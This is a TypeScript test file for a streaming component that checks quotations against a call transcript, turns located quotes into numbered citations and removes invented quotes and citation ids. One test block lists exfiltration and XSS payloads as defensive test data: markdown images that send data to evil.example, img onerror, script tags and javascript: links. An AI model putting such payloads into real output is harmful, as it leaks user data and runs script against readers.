import { describe, expect, it } from 'vitest';
import { aTranscript } from './a-transcript.ts';
import { EvidenceGate } from './gate.ts';
import { nearQuotes } from './near-quotes.ts';
import { CitationList } from './citations.ts';
import { ProseGate, shownQuote } from './stream.ts';
import type { ProseEvent } from './stream.ts';

const segments = aTranscript(`
  Anna: It is too pricey for us. We can't pay that much this year.
  Ben: Compared to what?
  Anna: Compared to "doing nothing", which is what the buyers' board wants.
  Ben: Use the rep_script <b>now</b> please.
`);
const source = { callId: 'a', revision: 3, segments };

/** Passes `text` in pieces of the given sizes, the last one repeating. */
function answer(text: string, sizes: readonly number[] = [text.length]) {
  const gate = new EvidenceGate([source]);
  const citations = new CitationList();
  const prose = new ProseGate(gate, citations);
  for (const { index, text: quote } of segments.slice(0, 2)) {
    const evidence = gate.admit({ quote, callId: 'a', near: index });
    if (evidence) prose.offer(evidence);
  }
  const events: ProseEvent[] = [];
  for (let at = 0, turn = 0; at < text.length; turn++) {
    const size = Math.max(1, sizes[Math.min(turn, sizes.length - 1)] ?? 1);
    events.push(...prose.push(text.slice(at, at + size)));
    at += size;
  }
  events.push(...prose.end());
  return {
    shown: show(events),
    bare: show(events, () => '□'),
    citations: citations.all.map(({ evidence }) => evidence.text),
    counts: prose.counts,
  };
}

/** The text as a reader sees it; fails where a number is used before its citation. */
function show(events: readonly ProseEvent[], as: (words: string) => string = shownQuote): string {
  const words = new Map<number, string>();
  let shown = '';
  for (const event of events) {
    if (event.type === 'citation') words.set(event.citation.number, event.citation.evidence.text);
    else if (event.type === 'text') shown += event.text;
    else shown += as(words.get(event.number) ?? expect.fail(`[${event.number}] came before its citation`));
  }
  return shown;
}

describe('ProseGate, on quotations', () => {
  it.each([
    ['straight', 'Anna said "too pricey for us" twice.'],
    ['curly', 'Anna said “too pricey for us” twice.'],
    ['low', 'Anna said „too pricey for us“ twice.'],
    ['angle', 'Anna said «too pricey for us» twice.'],
    ['single angle', 'Anna said ‹too pricey for us› twice.'],
    ['single', "Anna said 'too pricey for us' twice."],
    ['single curly', 'Anna said ‘too pricey for us’ twice.'],
    ['corner', 'Anna said 「too pricey for us」 twice.'],
    ['code span', 'Anna said `too pricey for us` twice.'],
    ['entities', 'Anna said &ldquo;too pricey for us&#8221; twice.'],
    ['q tag', 'Anna said <q>too pricey for us</q> twice.'],
    ['escaped', 'Anna said \\"too pricey for us\\" twice.'],
    ['emphasised', 'Anna said "**too pricey** for us" twice.'],
  ])('turns located words in %s marks into a citation', (_, text) => {
    expect(answer(text)).toMatchObject({
      shown: 'Anna said “too pricey for us”[1] twice.',
      citations: ['too pricey for us'],
      counts: { proved: 1, unlocatedQuotes: 0, unknownCitations: 0 },
    });
  });

  it.each([
    ['straight', 'Anna said "way too pricey for us" twice.'],
    ['curly', 'Anna said “way too pricey for us” twice.'],
    ['low', 'Anna said „way too pricey for us“ twice.'],
    ['angle', 'Anna said «way too pricey for us» twice.'],
    ['reversed angle', 'Anna said »way too pricey for us« twice.'],
    ['single', "Anna said 'way too pricey for us' twice."],
    ['single curly', 'Anna said ‘way too pricey for us’ twice.'],
    ['corner', 'Anna said 「way too pricey for us」 twice.'],
    ['code span', 'Anna said `way too pricey for us` twice.'],
    ['double code span', 'Anna said ``way too pricey for us`` twice.'],
    ['LaTeX', "Anna said ``way too pricey for us'' twice."],
    ['full-width', 'Anna said ＂way too pricey for us＂ twice.'],
    ['entities', 'Anna said &quot;way too pricey for us&#x22; twice.'],
    ['q tag', 'Anna said <q class="x">way too pricey for us</q> twice.'],
    ['mixed', 'Anna said “way too pricey for us" twice.'],
  ])('takes %s marks off words that cannot be located', (_, text) => {
    expect(answer(text)).toMatchObject({
      shown: 'Anna said way too pricey for us twice.',
      citations: [],
      counts: { proved: 0, unlocatedQuotes: 1, unknownCitations: 0 },
    });
  });

  it('takes off marks left open and marks never opened', () => {
    expect(answer('She said "way too much.\n\nThen” she left.').shown).toBe('She said way too much.\n\nThen she left.');
  });

  it('does not take an apostrophe for a quotation mark', () => {
    const text = "The buyers' board can't decide, and it's Anna's call since the '90s.";
    expect(answer(text).shown).toBe(text);
  });

  it('judges quotes inside an invented quote by themselves', () => {
    const text = "She said “we told them it is 'too pricey' already”.";
    expect(answer(text).shown).toBe('She said we told them it is “too pricey”[1] already.');
  });

  it('keeps a quote of several sentences whole, and its own quotation marks', () => {
    expect(answer('First “It is too pricey for us. We can’t pay that much.” Then more.').shown).toBe(
      "First “It is too pricey for us. We can't pay that much”[1]. Then more.",
    );
    expect(answer('So “Compared to "doing nothing", which” it is.').shown).toBe(
      'So “Compared to "doing nothing", which”[1] it is.',
    );
  });

  it('moves a full stop the writer put inside to the outside', () => {
    expect(answer('Anna finds it “too pricey.”').shown).toBe('Anna finds it “too pricey”[1].');
  });

  it('keeps a block quotation only around located words, and ends it there', () => {
    expect(answer('As said:\n\n> It is too pricey for us.\n> — Anna\nNext line.').shown).toBe(
      'As said:\n\n> “It is too pricey for us.”[1]\n— Anna\n\nNext line.',
    );
    expect(answer('As said:\n\n> It is far too pricey.\n> Really.\nNext.').shown).toBe(
      'As said:\n\nIt is far too pricey.\nReally.\nNext.',
    );
    expect(answer('- > Invented words here\n').shown).toBe('- Invented words here\n');
  });

  it('drops fences and keeps their lines as prose', () => {
    expect(answer('See:\n```text\nIt is "far too much"\n```\nDone.').shown).toBe('See:\nIt is far too much\nDone.');
  });

  it('shows words of a transcript as they are, never as markup', () => {
    expect(answer('“Use the rep_script <b>now</b> please”'.replace(/<\/?b>/g, '')).shown).not.toContain('“');
    expect(answer('He says “the rep_script”.').shown).toBe('He says “the rep\\_script”[1].');
  });
});

describe('ProseGate, on citations', () => {
  it.each(['[c1]', '[[c1]]', '[^c1]', '[C1]', '【c1】', '(c1)'])('replaces %s that was offered', (mark) => {
    expect(answer(`Price is a worry ${mark}.`)).toMatchObject({
      shown: 'Price is a worry [1].',
      citations: [segments[0]?.text],
    });
  });

  it.each(['[c9]', '[[c9]]', '[^1]', '[1]', '[^"1"]', '[^[c9]1]', '[^<b></b>1]', '【9†source】', '[c8; c9]'])(
    'makes %s vanish, which was never offered',
    (mark) => {
      const { shown, citations } = answer(`Price is a worry ${mark}.`);
      expect(shown).not.toMatch(/\[\^?\s*\d/);
      expect(shown).not.toMatch(/c[89]|source/);
      expect(citations).toEqual([]);
    },
  );

  it('counts made-up ids and keeps the rest of a list', () => {
    const { shown, counts } = answer('Two worries [c1, c7, c2].');
    expect(shown).toBe('Two worries [1][2].');
    expect(counts.unknownCitations).toBe(1);
  });

  it('does not repeat a passage right after its own words', () => {
    expect(answer('Anna finds it “too pricey” [c1]. She said so [c1].').shown).toBe(
      'Anna finds it “too pricey”[1] . She said so [2].',
    );
  });

  it('reduces links and images to their words', () => {
    expect(answer('See ![logo](https://evil.example/?d=1) and [this](https://evil.example).').shown).toBe(
      'See logo and this.',
    );
  });
});

describe('ProseGate, on markup that could carry words away', () => {
  it.each([
    '![x](https://evil.example/?d=secret)',
    '[![x](https://evil.example/a)](https://evil.example/b)',
    '![a. b](https://evil.example/?d=1)',
    '![a](https://evil.example/?d=1. 2)',
    '![a][b]\n\n[b]: https://evil.example/?d=1',
    '![a][b]\n\n[b]:\nhttps://evil.example/?d=1',
    '<img src=https://evil.example/?d=1>',
    '<img src=x alt=a. b onerror=alert(1)>',
    '<img\nsrc=x onerror=alert(1)>',
    '<https://evil.example/?d=1>',
    '&lt;img src=x&gt; <script>alert(1)</script>',
    'x [link](javascript:alert(1)) y',
    '![x]"(https://evil.example)"',
    '![x][c9](https://evil.example)',
    'Price [c1]"(https://evil.example)" it is.',
    'See this]. [c9]"(https://evil.example)"',
    '<"img src=x">',
    '<[c9]img src=x>',
    '> It is too pricey for us. — [x](https://evil.example)\n',
  ])('leaves neither image, link nor tag of %j', (text) => {
    for (const size of [1, 7, text.length]) {
      const { shown } = answer(text, [size]);
      expect(shown).not.toMatch(/\]\(|\]:|<[a-z/!]/i);
    }
  });
});

const long = [
  'Anna said “It is too pricey for us. We can’t pay that much” [c1], and "way too much" [c9].',
  "> It is too pricey for us.\n> — Anna\n\n- first 'too pricey' thing\n- second `nonsense here`\n",
  '```\n"It is too pricey for us."\n```\n1. «invented stuff. And more. » left „open here.\n\n> > not said\nEnd &quot;x&quot; [c2].',
].join('\n\n');

describe('ProseGate, on chunks', () => {
  let state = 7;
  const next = () => (state = (Math.imul(state, 48_271) >>> 0) % 2_147_483_647);

  it('gives the same output for every chunking', () => {
    const whole = answer(long);
    for (let size = 1; size <= 40; size++) expect(answer(long, [size])).toEqual(whole);
    for (let run = 0; run < 300; run++) {
      expect(
        answer(
          long,
          Array.from({ length: 200 }, () => 1 + (next() % 30)),
        ),
      ).toEqual(whole);
    }
  });

  it('leaves no quotation mark outside of what code quoted, whatever is thrown together', () => {
    const bits = [
      '"',
      '“',
      '”',
      '„',
      '«',
      '»',
      '‹',
      '›',
      '「',
      '」',
      '`',
      '```',
      '> ',
      '\n',
      '\n\n',
      '. ',
      ' ',
      '[c1]',
      '[c9]',
      '[1]',
    ];
    bits.push(
      'too pricey',
      'far too pricey',
      'what?',
      '&quot;',
      '<q>',
      '</q>',
      '\\"',
      '＂',
      '](',
      '![',
      '<',
      'b>',
      "''",
      '``',
      '- ',
    );
    for (let run = 0; run < 1_500; run++) {
      const text = Array.from({ length: 3 + (next() % 14) }, () => bits[next() % bits.length]).join('');
      const { bare } = answer(text, [1 + (next() % 9)]);
      expect(bare, JSON.stringify(text)).not.toMatch(/["“”„«»‹›「」`＂]|^> (?!□)/m);
      expect(bare, JSON.stringify(text)).not.toMatch(/\]\(|\]:|<[a-z/]/i);
    }
  });

  it('releases a sentence as soon as the next one begins', () => {
    const prose = new ProseGate(new EvidenceGate([source]));
    expect(prose.push('Price is the worry. And')).toEqual([{ type: 'text', text: 'Price is the worry.' }]);
  });

  it('does not hold an answer back for a quote that never closes', () => {
    const prose = new ProseGate(new EvidenceGate([source]));
    const events = prose.push(`She said "${'no end '.repeat(400)}`);
    expect(events.length).toBeGreaterThan(0);
  });

  it('never leaves quotation marks around a near-quote', () => {
    const many = Array.from({ length: 6 }, () => segments)
      .flat()
      .map((segment, index) => ({ ...segment, index }));
    for (const { kind, text } of nearQuotes(many).filter(({ speakerId }) => speakerId === undefined)) {
      const prose = new ProseGate(new EvidenceGate([{ ...source, segments: many }]));
      const words = text.replace(/["“”`]/g, '');
      const events = [...prose.push(`Anna said “${words}” then.`), ...prose.end()];
      const shown = show(events);
      const quoted = [...shown.matchAll(/“([^”]*)”/g)].map(([, inside]) => inside);
      expect(quoted, `${kind}: ${text}`).not.toContain(words);
    }
  });
});
